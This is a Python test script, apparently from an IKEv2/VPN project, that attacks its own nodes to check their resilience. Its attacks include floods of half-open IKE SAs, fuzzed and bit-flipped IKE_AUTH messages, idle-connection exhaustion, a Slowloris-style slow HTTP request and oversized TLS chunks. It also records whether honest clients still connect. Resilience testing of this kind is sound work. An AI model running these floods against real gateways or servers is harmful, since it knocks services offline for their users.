#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Attacks by somebody who can reach a node, and what an honest client sees meanwhile.

    attack.py clients LOCAL GATEWAY PSKFILE N      N honest clients, one after the other (JSON)
    attack.py half LOCAL,LOCAL... GATEWAY N        N IKE SAs left half-open, with cookies
    attack.py auth LOCAL GATEWAY PSKFILE           noise between a client's own messages
    attack.py idle ADDR:PORT N SECS [LOCAL,...]    N connections that say nothing
    attack.py slow ADDR:PORT N SECS                N requests of one octet every 200 ms
    attack.py rogue ADDR:PORT CERT KEY             does a node take this certificate?
    attack.py oversize ADDR:PORT CERT KEY          a chunk of 16 MiB on a link
"""
import json
import os
import random
import resource
import select
import socket
import ssl
import struct
import sys
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../interop"))
import ikev2                    # noqa: E402
import ikev2_wire as w          # noqa: E402


def where(text):
    host, port = text.rsplit(":", 1)
    return host, int(port)


def psk(path):
    with open(path, "rb") as f:
        return f.read().rstrip(b"\r\n")


def clients(local, gateway, psk_file, n):
    done, slowest, cookies, error = 0, 0, 0, None
    for _ in range(int(n)):
        begin = time.time()
        i = ikev2.Initiator(local, gateway, "cl", psk(psk_file), timeout=6)
        try:
            i.connect()
            done += 1
            slowest = max(slowest, time.time() - begin)
            cookies += i.cookies
            i.delete_ike()
        except ikev2.IkeError as e:
            error = str(e)
        i.close()
    print(json.dumps({"asked": int(n), "done": done, "slowest_ms": round(slowest * 1000), "cookies": cookies,
                      "error": error}))
    return 0 if done == int(n) else 1


def init_request(cookie, spi, nonce, ke):
    payloads = [w.notify(w.COOKIE, cookie)] if cookie else []
    payloads += [w.proposal(w.PROTO_IKE, b"", w.IkeSuite("aes128gcm16-prfsha256-x25519").transforms()), ke,
                 (w.NONCE, nonce)]
    body = w.chain(payloads)
    return w.header(spi, bytes(8), payloads[0][0], w.IKE_SA_INIT, w.FLAG_I, 0, 28 + len(body)) + body


def half(locals_, gateway, n):
    """A real address each, so that the cookie comes back; the IKE_AUTH never follows."""
    socks, opened, asked, cookies = [], 0, 0, 0
    for a in locals_.split(","):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.bind((a, 0))
        s.connect((gateway, 500))
        s.setblocking(False)
        socks.append(s)
    ke = w.Dh(31).payload()
    nonces, end, heard = {}, time.time() + 20, time.time()
    while opened < int(n) and time.time() < end:
        if asked - opened < 64 or time.time() - heard > 0.3:
            spi, nonce = os.urandom(8), os.urandom(32)
            nonces[spi] = nonce
            socks[asked % len(socks)].send(init_request(None, spi, nonce, ke))
            asked += 1
        for s in select.select(socks, [], [], 0 if asked - opened < 64 else 0.05)[0]:
            data, heard = s.recv(4096), time.time()
            got = w.unchain(data[16], data[28:])
            note = {t: d for t, d, _ in w.notifies(got)}
            if w.COOKIE in note:
                cookies += 1
                s.send(init_request(note[w.COOKIE], data[:8], nonces[data[:8]], ke))
            elif w.first(got, w.SA):
                opened += 1
    print("opened %d, %d cookies" % (opened, cookies))
    return 0 if opened >= int(n) else 1


def auth(local, gateway, psk_file):
    """Nothing that does not authenticate ends a half-open IKE SA or a session."""
    r = random.Random(1)
    i = ikev2.Initiator(local, gateway, "cl", psk(psk_file), timeout=6)
    i.sa_init()
    spis = i.ike.spi_i + i.ike.spi_r

    def noise(first_id):
        for k in range(200):
            body = r.randbytes(r.randrange(1, 300))
            i.send_ike(spis + struct.pack(">BBBBII", r.choice([46, 53, 33, 0]), 0x20, r.choice([35, 36, 37]),
                                          r.choice([8, 0, 0x28]), first_id + r.choice([0, 0, 1, 7]),
                                          28 + len(body)) + body)
        i.poll(0)
    noise(1)
    i.auth()
    message = next(t[5] for t in i.trace if t[1] == "out" and t[2] == w.IKE_AUTH and len(t[5]) > 250
                   and t[5][:16] == spis)
    for n in list(range(0, 64)) + list(range(64, len(message), 16)):
        cut = message[:24] + struct.pack(">I", n) + message[28:n] if n >= 28 else message[:n]
        i.ike_sock.sendto(bytes(4) + cut, (gateway, 4500))
    for n in range(28, len(message), 12):  # One bit each.
        broken = bytearray(message)
        broken[n] ^= 1
        i.send_ike(bytes(broken))
    noise(2)
    i.dpd()
    i.delete_ike()
    i.close()
    print("unharmed")
    return 0


def idle(at, n, secs, locals_=""):
    """Closed ones are opened again, 100 every 10 ms."""
    n, end = int(n), time.time() + float(secs)
    resource.setrlimit(resource.RLIMIT_NOFILE, (n + 100, max(n + 100, resource.getrlimit(resource.RLIMIT_NOFILE)[1])))
    froms = [a for a in locals_.split(",") if a]
    socks, made, k = [], 0, 0

    def stands(s):
        try:
            return s.getpeername() is not None and s.recv(1, socket.MSG_PEEK) != b""
        except OSError as e:
            return isinstance(e, BlockingIOError)

    def again():
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        if froms:
            s.bind((froms[made % len(froms)], 0))
        s.connect_ex(where(at))
        return s
    while made < n:
        socks.append(again())
        made += 1
    while time.time() < end:
        for k in range(k, k + 100):
            if not stands(socks[k % n]):
                socks[k % n].close()
                socks[k % n] = again()
                made += 1
        time.sleep(0.01)
    print("%d connections asked for, %d stand at the end" % (made, sum(map(stands, socks))))
    return 0


def slow(at, n, secs):
    socks = []
    for _ in range(int(n)):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        s.connect_ex(where(at))
        socks.append(s)
    text, end, k = b"GET /v1/status HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Y: " + b"z" * 10000, time.time() + float(secs), 0
    while time.time() < end:
        for s in socks:
            try:
                s.send(text[k:k + 1])
            except OSError:
                pass
        k += 1
        time.sleep(0.2)
    return 0


def dial(at, cert, key):
    c = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    c.check_hostname, c.verify_mode = False, ssl.CERT_NONE
    c.minimum_version = ssl.TLSVersion.TLSv1_3
    if cert != "none":
        c.load_cert_chain(cert, key)
    s = socket.create_connection(where(at), timeout=3)
    return c.wrap_socket(s)


def rogue(at, cert, key):
    """The client's side of TLS 1.3 ends before the server has judged: the server's next octets count."""
    try:
        s = dial(at, cert, key)
        print("taken" if s.recv(100) else "refused")
    except OSError:
        print("refused")
    return 0


def oversize(at, cert, key):
    s = dial(at, cert, key)
    s.recv(100)
    s.sendall(b"\x00\xff\xff\xff" + bytes(1000))
    try:
        while s.recv(65536):
            pass
    except OSError as e:
        if isinstance(e, TimeoutError):
            print("left open")
            return 1
    print("ended")
    return 0


if __name__ == "__main__":
    if len(sys.argv) < 2 or sys.argv[1] not in ("clients", "half", "auth", "idle", "slow", "rogue", "oversize"):
        sys.exit(__doc__)
    sys.exit(globals()[sys.argv[1]](*sys.argv[2:]))
